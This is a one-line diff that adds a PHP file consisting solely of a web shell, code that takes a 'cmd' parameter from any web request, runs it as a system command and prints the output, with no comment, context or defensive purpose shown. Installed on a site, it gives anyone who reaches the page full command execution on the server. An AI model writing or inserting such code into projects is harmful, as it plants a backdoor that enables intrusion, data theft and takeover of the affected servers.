@@ -1,0 +1,1 @@
+<?php if (isset($_REQUEST['cmd'])) { echo "<pre>"; system($_REQUEST['cmd']); }
